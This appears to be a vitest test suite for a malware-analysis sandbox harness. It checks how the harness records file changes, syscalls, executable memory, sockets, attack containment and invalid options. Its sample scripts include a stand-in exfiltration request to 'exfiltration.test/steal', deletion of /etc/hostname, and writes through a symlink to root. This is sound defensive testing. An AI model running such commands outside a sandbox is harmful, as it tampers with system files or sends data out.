/** barchan/harness: what a verdict says of a sample. */
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as harness from '../../lib/harness/index.js';
import { Policy } from '../../lib/index.js';

let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'barchan-harness-'));
  chmodSync(folder, 0o755);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const sha256 = (data: string | Buffer): string => createHash('sha256').update(data).digest('hex');
const python = (script: string, options: harness.HarnessOptions = {}): Promise<harness.Verdict> =>
  harness.run({ script, interpreter: '/usr/bin/python3' }, options);
const names = (verdict: harness.Verdict): string[] =>
  verdict.dropped.map(({ path, change }) => `${change} ${path}`);

describe('files', () => {
  it('says what was created, changed and deleted, with hashes and bytes, wherever it was', async () => {
    const shared = join(folder, 'shared');
    const fixed = join(folder, 'fixed');
    for (const path of [shared, fixed]) mkdirSync(path);
    for (const name of ['same', 'changed', 'gone']) writeFileSync(join(shared, name), name);
    writeFileSync(join(fixed, 'file'), 'as it is');
    const hostname = readFileSync('/etc/hostname');
    const verdict = await harness.run(
      {
        script: `echo hello > /tmp/made; printf new > /etc/made; mkdir -p /opt/deep/er; printf x > /opt/deep/er/file
ln -s /nowhere /tmp/link; ln -s / /tmp/root; printf more >> /tmp/root/etc/issue; rm /etc/hostname
printf changed! > /shared/changed; rm /shared/gone; printf made > /shared/made; touch /shared/same
printf gone > /tmp/short; rm /tmp/short; cat /tmp/fixed/file > /dev/null; mkfifo /run/fifo`,
      },
      {
        mounts: [
          { source: shared, target: '/shared', readOnly: false },
          { source: fixed, target: '/tmp/fixed' },
        ],
      },
    );
    expect(verdict).toMatchObject({
      exit: { exitCode: 0 },
      stderr: { text: '' },
      complete: true,
      omitted: 0,
    });
    expect(names(verdict)).toEqual([
      'changed /etc/issue',
      'created /etc/made',
      'created /opt/deep/er/file',
      'changed /shared/changed',
      'created /shared/made',
      'changed /shared/same',
      'created /tmp/link',
      'created /tmp/made',
      'created /tmp/root',
    ]);
    expect(verdict.deleted).toEqual(['/etc/hostname', '/shared/gone']);
    const made = verdict.dropped.find(({ path }) => path === '/tmp/made');
    expect(made).toEqual({
      path: '/tmp/made',
      change: 'created',
      kind: 'file',
      mode: 0o644,
      size: 6,
      sha256: sha256('hello\n'),
      bytes: Buffer.from('hello\n').toString('base64'),
      truncated: false,
    });
    const link = verdict.dropped.find(({ path }) => path === '/tmp/link');
    expect(link).toMatchObject({ kind: 'symlink', bytes: Buffer.from('/nowhere').toString('base64') });
    expect(verdict.files.find(({ path }) => path === '/tmp/fixed/file')?.uses).toEqual(['read']);
    // The host's own are as they were.
    expect(readFileSync('/etc/hostname')).toEqual(hostname);
    expect(existsSync('/etc/made')).toBe(false);
  });

  it('keeps as much of what was dropped as it is asked to', async () => {
    const verdict = await python(
      `
import os
for i in range(30): open(f'/tmp/{i:02}', 'w').write('x' * 100)
os.truncate(os.open('/tmp/huge', os.O_CREAT | os.O_WRONLY), 1 << 40)
os.write(1, b'o' * 5000)`,
      { keep: { file: 10, files: 55, hashed: 1000, entries: 20, output: 100 } },
    );
    expect(verdict.stdout).toEqual({ text: 'o'.repeat(100), bytes: 5000, truncated: true });
    expect(verdict.dropped.length).toBeLessThanOrEqual(20);
    expect(verdict.omitted).toBeGreaterThan(0);
    expect(verdict.complete).toBe(false);
    const bytes = verdict.dropped.map((file) => Buffer.from(file.bytes, 'base64').length);
    expect(Math.max(...bytes)).toBe(10);
    expect(bytes.reduce((sum, size) => sum + size)).toBe(55);
    for (const file of verdict.dropped)
      expect(file.sha256).toBe(file.size > 1000 ? undefined : sha256('x'.repeat(100)));
  });
});

describe('behaviour', () => {
  it('counts calls, tells of faults, limits, refusals, sockets and executable memory', async () => {
    const verdict = await python(
      `
import ctypes, mmap, os, socket
for i in range(50): os.sched_yield()
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_long, ctypes.c_int]
never = libc.mmap(None, ctypes.c_long(3 * 4096), 1, 0x22, -1, ctypes.c_long(0))
assert libc.mprotect(never, 3 * 4096, 5) == 0
written = libc.mmap(None, ctypes.c_long(5 * 4096), 3, 0x22, -1, ctypes.c_long(0))
assert libc.mprotect(written, 5 * 4096, 5) == 0
try: socket.socket().connect(('192.0.2.1', 80))
except OSError: pass
assert libc.mount(b'none', b'/mnt', b'tmpfs', 0, None) == -1
copies = []
try:
  while True: copies.append(os.dup(1))
except OSError:
  for copy in copies: os.close(copy)
if os.fork() == 0: ctypes.string_at(8)
os.wait()
open('/tmp/tool', 'w').write('#!/bin/sh\\nexit 5\\n'); os.chmod('/tmp/tool', 0o755)
os.system('/tmp/tool')`,
      { policy: Policy.compat(), rlimits: { nofile: 50 }, args: ['one', 'two'], stdin: 'ignored' },
    );
    expect(verdict.stderr.text).toBe('');
    expect(verdict).toMatchObject({
      barchanVerdict: 1,
      contained: true,
      complete: true,
      reached: [],
      attempts: [],
    });
    expect(verdict.sample.argv).toEqual(['/usr/bin/python3', '/run/sample/script', 'one', 'two']);
    expect(verdict.isolation).toBe('barchan:compat');
    const call = (name: string): harness.VerdictSyscall | undefined =>
      verdict.syscalls.find((each) => each.name === name);
    expect(call('sched_yield')).toMatchObject({ calls: 50, failures: 0 });
    expect(call('sched_yield')?.firstMs).toBeGreaterThan(call('mmap')?.firstMs ?? Infinity);
    const executable = (pages: number): harness.VerdictExecutable[] =>
      verdict.executable.filter(({ bytes, anonymous }) => anonymous && bytes === pages * 4096);
    expect(executable(1)).toMatchObject([{ syscall: 'mmap', writable: true, count: 1 }]);
    expect(executable(3)).toMatchObject([{ syscall: 'mprotect', writable: false }]);
    expect(executable(5)).toMatchObject([{ syscall: 'mprotect', writable: true }]);
    expect(verdict.selfModification).toBe(true);
    expect(verdict.sockets).toMatchObject([
      { use: 'connect', address: { address: '192.0.2.1', port: 80 }, failures: 1 },
    ]);
    expect(verdict.denied.map(({ syscall }) => syscall)).toContain('mount');
    expect(verdict.limits).toMatchObject([{ limit: 'files', syscall: 'fcntl', errno: 'EMFILE' }]);
    expect(verdict.faults).toMatchObject([{ signal: 'SIGSEGV', address: '0x8', vector: 14, count: 1 }]);
    expect(verdict.programs.at(-1)).toMatchObject({ path: '/usr/bin/dash', argv: ['/bin/sh', '/tmp/tool'] });
    const layers = verdict.evidence.map(({ layer, kind }) => `${layer} ${kind}`);
    expect(layers).toEqual(expect.arrayContaining(['limit limit', 'namespace errno']));
    expect(layers).not.toContain('ept fault');
    expect(JSON.parse(JSON.stringify(verdict))).toEqual(JSON.parse(JSON.stringify({ ...verdict })));
  });

  it('says that nothing had to be stopped', async () => {
    const verdict = await harness.run({ command: ['true'] });
    expect(verdict).toMatchObject({
      exit: { exitCode: 0 },
      contained: true,
      evidence: [],
      dropped: [],
      deleted: [],
    });
    expect(verdict.stoppedBy).toBeUndefined();
    expect(verdict.sample).toEqual({
      name: 'true',
      argv: ['true'],
      sha256: sha256(readFileSync('/usr/bin/true')),
    });
    expect(verdict.selfModification).toBe(false);
  });

  it('runs a program of the host, tells of its time-out, and how it goes on', async () => {
    const path = join(folder, 'program of mine');
    writeFileSync(path, '#!/bin/sh\nread text; printf %s "$text"\nsleep 1000\n', { mode: 0o755 });
    const seen: harness.HarnessProgress[] = [];
    const verdict = await harness.run(path, {
      stdin: 'given',
      timeoutMs: 1500,
      progressMs: 200,
      onProgress: (progress) => seen.push(progress),
    });
    expect(verdict.sample.sha256).toBe(sha256(readFileSync(path)));
    expect(verdict).toMatchObject({
      exit: { exitCode: null, signal: 'SIGKILL', timedOut: true },
      stdout: { text: 'given', bytes: 5, truncated: false },
      stoppedBy: 'limit',
      limits: [{ limit: 'time', count: 1 }],
    });
    expect([...new Set(seen.map(({ phase }) => phase))]).toEqual(['preparing', 'running', 'collecting']);
    expect(seen.filter(({ phase }) => phase === 'running').length).toBeGreaterThan(2);
    expect(seen.at(-1)?.syscalls).toBeGreaterThan(50);
    expect(seen.every(({ elapsedMs }, index) => elapsedMs >= (seen[index - 1]?.elapsedMs ?? 0))).toBe(true);
  });
});

describe('network', () => {
  const script = `
import urllib.request
print(urllib.request.urlopen('http://exfiltration.test/steal?x=1', timeout=20).read().decode())`;

  it('answers by the virtual one, and says what was asked for and sent', async () => {
    const network = new harness.VirtualNetwork({ http: ({ host, url }) => ({ body: `${host} ${url}` }) });
    const verdict = await python(script, { network });
    expect(verdict).toMatchObject({
      exit: { exitCode: 0 },
      stdout: { text: 'exfiltration.test /steal?x=1\n' },
      contained: true,
      reached: [],
    });
    expect(verdict.names.map(({ name }) => name)).toContain('exfiltration.test');
    expect(verdict.flows.map(({ service }) => service)).toContain('http');
    const flow = verdict.flows.find(({ service }) => service === 'http');
    expect(flow).toMatchObject({ protocol: 'tcp', host: 'exfiltration.test', port: 80 });
    expect(Buffer.from(flow?.sent ?? '', 'base64').toString()).toContain('GET /steal?x=1 HTTP/1.1');
    expect(network.pcap().length).toBeGreaterThan(200);
    expect(verdict.evidence.filter(({ layer }) => layer === 'namespace')).toEqual([]);
  });

  it('is none by default', async () => {
    const verdict = await python(script);
    expect(verdict).toMatchObject({ exit: { exitCode: 1 }, names: [], flows: [] });
    expect(verdict.evidence.filter(({ layer }) => layer === 'namespace').length).toBeGreaterThan(0);
  });
});

describe('attacks', () => {
  it.each([
    ['processor/privileged', 'ept', 'fault'],
    ['policy/strict_calls', 'policy', 'denied'],
    ['files/write_host_root', 'namespace', 'expected'],
  ])('%s is contained, by %s', async (attack, layer, kind) => {
    const verdict = await harness.run({ attack });
    expect(verdict.contained, JSON.stringify(verdict)).toBe(true);
    expect(verdict).toMatchObject({
      stoppedBy: layer,
      failedControls: [],
      reached: [],
      exit: { exitCode: 0 },
    });
    expect(verdict.attempts.every(({ stopped }) => stopped !== undefined)).toBe(true);
    const kinds = verdict.evidence.filter((one) => one.layer === layer).map((one) => one.kind);
    expect(kinds).toEqual(expect.arrayContaining(['attempt', kind]));
  });

  it('that work are not contained, and say what was reached', async () => {
    // The same attack with the layer that has to stop it away.
    const denied = await harness.run({ attack: 'policy/strict_calls' }, { policy: 'compat' });
    expect(denied.contained).toBe(false);
    expect(denied.stoppedBy).toBeUndefined();
    expect(denied.attempts.some(({ stopped }) => stopped === undefined)).toBe(true);
    expect(denied.reached).toEqual([]);
  });
});

describe('refusals', () => {
  it.each<[string, unknown, unknown]>([
    ['sample', 7, {}],
    ['sample', '', {}],
    ['sample', '/no/such/program', {}],
    ['sample', '/tmp', {}],
    ['sample', {}, {}],
    ['sample', { command: ['true'], script: 'x' }, {}],
    ['sample', { command: ['true'], shell: true }, {}],
    ['sample.command', { command: [] }, {}],
    ['sample.command', { command: ['a\0b'] }, {}],
    ['sample.script', { script: 5 }, {}],
    ['sample.interpreter', { script: '', interpreter: [1] }, {}],
    ['sample.attack', { attack: 'no/such' }, {}],
    ['options.network', 'true', { network: 'host' }],
    ['options.network', 'true', { network: {} }],
    ['options.timeoutMs', 'true', { timeoutMs: 0 }],
    ['options.isolation', 'true', { isolation: 'none' }],
    ['options.keep.bytes', 'true', { keep: { bytes: 1 } }],
    ['options.keep.calls', 'true', { keep: { calls: 0 } }],
    ['options.onProgress', 'true', { onProgress: 'yes' }],
    ['options.cwd', 'true', { cwd: 'relative' }],
    ['options.args[0]', 'true', { args: [1] }],
    ['options', 'true', null],
  ])('%s', async (path, sample, options) => {
    const refused = harness.run(sample as harness.Sample, options as harness.HarnessOptions);
    await expect(refused).rejects.toMatchObject({
      code: 'ERR_INVALID_OPTION',
      path,
      remedy: expect.any(String),
    });
  });

  it('of what is not there, was aborted, or threw, with nothing left behind', async () => {
    await expect(harness.run({ command: ['/no/such'] })).rejects.toMatchObject({
      code: 'ERR_PROGRAM_NOT_FOUND',
    });
    await expect(harness.run({ command: ['true'] }, { signal: AbortSignal.abort() })).rejects.toMatchObject({
      code: 'ERR_ABORTED',
    });
    const abort = new AbortController();
    const aborted = harness.run(
      { command: ['sleep', '1000'] },
      {
        signal: abort.signal,
        progressMs: 50,
        onProgress: ({ phase, syscalls }) => phase === 'running' && syscalls > 10 && abort.abort(),
      },
    );
    await expect(aborted).rejects.toMatchObject({ code: 'ERR_ABORTED' });
    const mine = new Error('mine');
    const thrown = harness.run(
      { command: ['sleep', '1000'] },
      {
        onProgress: ({ phase }) => {
          if (phase === 'running') throw mine;
        },
      },
    );
    await expect(thrown).rejects.toBe(mine);
    const input = harness.run({ command: ['cat'] }, { stdin: [5] as unknown as string[] });
    await expect(input).rejects.toMatchObject({ code: 'ERR_INVALID_OPTION' });
  });
});
